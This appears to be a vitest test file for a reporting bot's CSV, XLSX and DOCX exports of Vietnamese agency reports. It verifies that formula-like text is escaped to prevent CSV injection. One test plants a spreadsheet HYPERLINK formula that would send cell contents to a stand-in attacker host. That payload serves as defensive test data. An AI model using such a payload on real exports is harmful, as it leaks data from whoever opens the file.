import { and, eq } from "drizzle-orm";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Database } from "../../../src/db/client.ts";
import { agencies } from "../../../src/features/agencies/agencies.table.ts";
import { answers, submissions } from "../../../src/features/reports/reports.table.ts";
import { csvSafe } from "../../../src/features/summaries/export-workbook.ts";
import { createBotHarness, type BotHarness } from "../../support/bot-harness.ts";
import { createTestDatabase } from "../../support/test-db.ts";
import { addPerson, PEOPLE, seedSummariesFixture, type Fixture } from "./summaries-fixture.ts";

/** Fields of an RFC 4180 CSV text (quotes doubled inside quoted fields, line breaks allowed there). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(field), (field = "");
    else if (ch === "\n" || ch === "\r") {
      if (ch === "\r" && text[i + 1] === "\n") i++;
      row.push(field), rows.push(row), (row = []), (field = "");
    } else field += ch;
  }
  if (field || row.length) row.push(field), rows.push(row);
  return rows;
}

describe("csvSafe", () => {
  it("neutralises text that a spreadsheet would take for a formula, and nothing else", () => {
    for (const s of ["=1+1", "+84 912", "- a dash list", "@SUM(A1)", "\tx", "\rx"]) expect(csvSafe(s)).toBe(`'${s}`);
    for (const s of ["Sở Tài chính", "1. Thiếu máy tính", "", "a=b", " =1"]) expect(csvSafe(s)).toBe(s);
    // Numbers stay numbers, negative ones included.
    expect(csvSafe(-5)).toBe(-5);
    expect(csvSafe(12)).toBe(12);
  });
});

/** Reporters' free text and imported agency names end up in the files leaders download. */
describe("free text in the exported files", () => {
  let database: Database;
  let h: BotHarness;
  let fx: Fixture;

  const setDifficulties = async (agencyId: number, text: string) => {
    const [s] = await database.db
      .select()
      .from(submissions)
      .where(and(eq(submissions.periodId, fx.periodIds["2026-10"]!), eq(submissions.agencyId, agencyId)));
    const where = and(eq(answers.submissionId, s!.id), eq(answers.questionKey, "difficulties"));
    const [existing] = await database.db.select().from(answers).where(where);
    if (existing) await database.db.update(answers).set({ value: text }).where(where);
    else await database.db.insert(answers).values({ submissionId: s!.id, questionKey: "difficulties", value: text, numValue: null, updatedAt: new Date() });
    // As an amendment does: a new version, so the summaries' caches read the report again.
    await database.db.update(submissions).set({ version: s!.version + 1 }).where(eq(submissions.id, s!.id));
  };
  const lastDocument = () => {
    const call = h.api.calls.filter((c) => c.method === "sendDocument").at(-1)!;
    return Object.values(call.files)[0]!.data as Buffer;
  };

  beforeAll(async () => {
    database = await createTestDatabase();
    h = await createBotHarness(database);
    fx = await seedSummariesFixture(database.db, h.clock.now());
    await addPerson(database.db, PEOPLE.provinceLeader, [["leader", null]]);
  });
  afterAll(() => database.close());
  beforeEach(() => h.api.clear());

  it("CSV: no text field starts with = + - @ (answers, agency and parent names); numbers and other text as they were", async () => {
    await setDifficulties(fx.ids.d1, '=HYPERLINK("http://evil.example/?d="&B3,"Xem chi tiết")');
    await setDifficulties(fx.ids.d2, "- Thiếu máy tính cho bộ phận một cửa");
    // Agency names come from CSV imports.
    await database.db.update(agencies).set({ name: "@Huyện Xuân Lộc" }).where(eq(agencies.id, fx.ids.h1));
    await database.db.update(agencies).set({ name: "+UBND tỉnh Thử Nghiệm" }).where(eq(agencies.id, fx.ids.prov));
    try {
      await h.send(PEOPLE.provinceLeader, "/export csv tháng 10/2026");
      const csv = lastDocument().toString("utf8").replace(/^\uFEFF/, "");
      const cells = parseCsv(csv).flat();
      expect(cells.length).toBeGreaterThan(20);
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      expect(cells).toContain(`'=HYPERLINK("http://evil.example/?d="&B3,"Xem chi tiết")`);
      expect(cells).toContain("'- Thiếu máy tính cho bộ phận một cửa");
      expect(cells).toContain("'@Huyện Xuân Lộc");
      expect(cells).toContain("'+UBND tỉnh Thử Nghiệm");
      // Ordinary text and numbers are untouched.
      expect(csv).toMatch(/T-TC,Sở Tài chính,.*,80,12,/);
    } finally {
      await database.db.update(agencies).set({ name: "UBND huyện Xuân Lộc" }).where(eq(agencies.id, fx.ids.h1));
      await database.db.update(agencies).set({ name: "UBND tỉnh Thử Nghiệm" }).where(eq(agencies.id, fx.ids.prov));
    }
  });

  it("XLSX keeps the reporter's text exactly as written (strings are never formulas there)", async () => {
    await setDifficulties(fx.ids.d2, "- Thiếu máy tính cho bộ phận một cửa");
    await h.send(PEOPLE.provinceLeader, "/export xlsx tháng 10/2026");
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(lastDocument() as unknown as ArrayBuffer);
    const values: unknown[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
    expect(values).toContain("- Thiếu máy tính cho bộ phận một cửa");
  });

  it("DOCX: an answer written on several lines keeps its lines, with a line break between them", async () => {
    await setDifficulties(fx.ids.d1, "1. Thiếu máy tính cho bộ phận một cửa.\r\n2. Cán bộ chuyên trách kiêm nhiệm.\n3. Mạng chậm.");
    await h.send(PEOPLE.provinceLeader, "/export docx tháng 10/2026");
    const xml = await (await JSZip.loadAsync(lastDocument())).file("word/document.xml")!.async("string");
    const runs = [...xml.matchAll(/<w:t[^>]*>([^<]*)<\/w:t>/g)].map((m) => m[1]!);
    expect(runs.filter((r) => /[\r\n]/.test(r))).toEqual([]);
    expect(runs).toContain("1. Thiếu máy tính cho bộ phận một cửa.");
    expect(runs).toContain("2. Cán bộ chuyên trách kiêm nhiệm.");
    expect(runs).toContain("3. Mạng chậm.");
    for (const [a, b] of [["bộ phận một cửa.", "2. Cán bộ"], ["kiêm nhiệm.", "3. Mạng chậm."]] as [string, string][])
      expect(xml.slice(xml.indexOf(a), xml.indexOf(b))).toContain("<w:br/>");
    // Still in one paragraph with the agency's name in front.
    const para = xml.slice(xml.lastIndexOf("<w:p>", xml.indexOf("1. Thiếu máy tính")), xml.indexOf("3. Mạng chậm."));
    expect(para).toContain("- Sở Tài chính: ");
    expect(para).not.toContain("</w:p>");
  });
});
